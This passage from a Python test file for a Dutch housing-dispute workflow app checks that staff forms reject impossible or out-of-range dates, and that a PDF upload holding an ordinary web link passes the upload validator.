    ("hersteltermijn", "admissibility_review", "assess_admissibility", "request_remedy", "deadline",
     lambda c: {"reason": "Machtiging ontbreekt"}, STAFF_DEADLINES),
    ("inlichtingentermijn", "exchange", "plan_hearing", "request_information", "deadline",
     lambda c: {"question": "Hoeveel woningen?",
                "party": c.parties.get(organisation__name="Gemeente Leiderdorp").organisation_id}, STAFF_DEADLINES),
    ("hoorzitting", "exchange", "plan_hearing", "schedule_hearing", "hearing_at",
     lambda c: {"place": "Den Haag"}, HEARING_MOMENTS),
]


@pytest.mark.parametrize(("form", "state", "node", "action", "field", "extra", "table"), STAFF_DATE_FORMS,
                         ids=[f[0] for f in STAFF_DATE_FORMS])
def test_impossible_past_and_far_dates_are_field_errors_on_the_staff_forms(client, world, form, state, node, action,
                                                                           field, extra, table):
    case = case_in_state(world, state)
    task = _take(client, world.secretary, case, node)
    wrong = []
    for what, value, message in table:
        data = {"action": action, f"{action}-expected_version": case.version, f"{action}-{field}": value,
                **{f"{action}-{k}": v for k, v in extra(case).items()}}
        response = client.post(reverse("workflow:task", args=[case.pk, task.pk]), data)
        errors = []
        if response.status_code == 200 and response.context:
            form_ = next(s["form"] for s in response.context["sections"] if s["action"].slug == action)
            errors = form_.errors.get(field, [])
        if not any(message in e for e in errors):
            wrong.append((what, response.status_code, errors))
    assert wrong == [], form
    assert Dispute.objects.get(pk=case.pk).version == case.version
    assert not case.deadlines.filter(kind__in=["remedy", "information"]).exists()


def test_an_ordinary_web_link_in_a_pdf_is_allowed():
    from django.core.files.base import ContentFile

    from disputes.uploads import check_upload

    content = h.modified(h.action_link("URI", URI=pikepdf.String("https://www.volkshuisvestingnederland.nl/")))
    checked = check_upload(ContentFile(content, name="rapport.pdf"))
    assert checked.sha256 and checked.size == len(content)
